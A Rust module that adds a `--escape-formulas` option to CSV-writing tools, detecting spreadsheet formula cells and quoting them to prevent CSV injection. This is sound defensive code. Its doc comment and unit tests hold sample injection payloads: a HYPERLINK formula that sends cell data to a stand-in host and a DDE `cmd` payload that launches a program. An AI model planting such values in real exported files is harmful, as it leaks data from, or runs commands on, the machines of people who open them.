//! CSV cells that a spreadsheet could run as formulas ("CSV injection" or
//! "formula injection"), and the one shared flag that neutralises them,
//! `--escape-formulas`, for every tool that writes CSV (fmt-migrate
//! `--to csv`, dist-report `--format csv`).
//!
//! Excel, LibreOffice Calc and Google Sheets read a cell whose first
//! character is `=`, `+`, `-`, `@`, TAB or CR as a formula, so a record value
//! such as `=HYPERLINK("http://evil/?"&A1)` can send data away or run a
//! command when someone opens the file. By default the tools write every
//! value verbatim (CSV is a data format, and fmt-migrate's CSV reads back to
//! the same records); with `--escape-formulas` such a cell is written with a
//! single quote in front (`'=HYPERLINK(…)`), the mitigation of the OWASP
//! "CSV Injection" page and of OWASP ASVS 5.0 requirement 1.2.10:
//! spreadsheets show the text instead of evaluating it. A cell that is
//! wholly a number (`-3`, `+1.5e3`) is no formula and stays as it is, so
//! negative figures survive.
//!
//! The cost, said in the flag's help: an escaped cell no longer reads back
//! as the original value (the quote becomes part of the text).

use std::borrow::Cow;

/// The `--escape-formulas` flag, flattened into each CSV-writing tool's
/// `Cli` (one definition: one name, help text and heading everywhere).
#[derive(Debug, Clone, Copy, Default, clap::Args)]
pub struct FormulaFlag {
    /// Write CSV cells that start with =, +, -, @, TAB or CR with a ' in front
    ///
    /// Spreadsheets (Excel, LibreOffice, Google Sheets) run such a cell as a
    /// formula when the file is opened: a record value like
    /// =HYPERLINK("http://…"&A1) can leak data or start a program ("CSV
    /// injection"). Without this flag every value is written verbatim. With
    /// it, such a cell gets a leading single quote, which spreadsheets read as
    /// "this is text" (the OWASP mitigation); a cell that is only a number
    /// (-3, +1.5) is left as it is. An escaped cell no longer reads back as
    /// its original value, so use the flag for files meant for spreadsheets.
    #[arg(long, help_heading = "Output")]
    pub escape_formulas: bool,
}

impl FormulaFlag {
    /// Refuses the flag where the tool writes no CSV (`csv` says whether it
    /// does; `how` names the flag that asks for CSV, e.g. `--to csv`).
    pub fn check(self, csv: bool, how: &str) -> Result<(), crate::error::Error> {
        if self.escape_formulas && !csv {
            return Err(crate::error::Error::Usage(format!(
                "--escape-formulas changes CSV cells only: give it with {how}"
            )));
        }
        Ok(())
    }
}

/// Whether a spreadsheet would read `cell` as a formula.
pub fn is_formula(cell: &str) -> bool {
    let Some(first) = cell.chars().next() else { return false };
    matches!(first, '=' | '+' | '-' | '@' | '\t' | '\r') && !is_number(cell)
}

/// `cell` as written with `--escape-formulas`: a formula gets a `'` in front.
pub fn escape_formula(cell: &str) -> Cow<'_, str> {
    if is_formula(cell) { Cow::Owned(format!("'{cell}")) } else { Cow::Borrowed(cell) }
}

/// `cell` as the flag says: escaped when `escape`, verbatim otherwise.
pub fn cell(cell: &str, escape: bool) -> Cow<'_, str> {
    if escape { escape_formula(cell) } else { Cow::Borrowed(cell) }
}

/// A plain decimal number, with an optional sign and exponent (`-3`,
/// `+0.5`, `-1.2e-3`, `-.5`): a spreadsheet reads it as that number.
fn is_number(text: &str) -> bool {
    let b = text.as_bytes();
    let mut i = usize::from(matches!(b.first(), Some(b'+' | b'-')));
    let digits = |i: &mut usize| {
        let start = *i;
        while b.get(*i).is_some_and(u8::is_ascii_digit) {
            *i += 1;
        }
        *i - start
    };
    let mut mantissa = digits(&mut i);
    if b.get(i) == Some(&b'.') {
        i += 1;
        mantissa += digits(&mut i);
    }
    if mantissa == 0 {
        return false;
    }
    if matches!(b.get(i), Some(b'e' | b'E')) {
        i += 1;
        if matches!(b.get(i), Some(b'+' | b'-')) {
            i += 1;
        }
        if digits(&mut i) == 0 {
            return false;
        }
    }
    i == b.len()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_starts_are_escaped() {
        for formula in [
            "=1+1",
            "=HYPERLINK(\"http://x/?\"&A1)",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1:A9)",
            "\t=1",
            "\r=1",
            "-",
            "+",
            "--x",
            "-1e",
            "-e5",
        ] {
            assert!(is_formula(formula), "{formula:?}");
            assert_eq!(escape_formula(formula), format!("'{formula}"), "{formula:?}");
        }
    }

    #[test]
    fn numbers_text_and_empty_cells_stay_verbatim() {
        for plain in
            ["", "text", "a=b", " =1", "'=1", "-3", "+1.5", "-0.25e-3", "-.5", "+7E+2", "12"]
        {
            assert!(!is_formula(plain), "{plain:?}");
            assert_eq!(escape_formula(plain), plain, "{plain:?}");
        }
    }

    #[test]
    fn the_flag_decides() {
        assert_eq!(cell("=1", false), "=1");
        assert_eq!(cell("=1", true), "'=1");
        // Escaping twice changes nothing more: the quote is not a formula start.
        assert_eq!(escape_formula(&escape_formula("=1")), "'=1");
    }
}
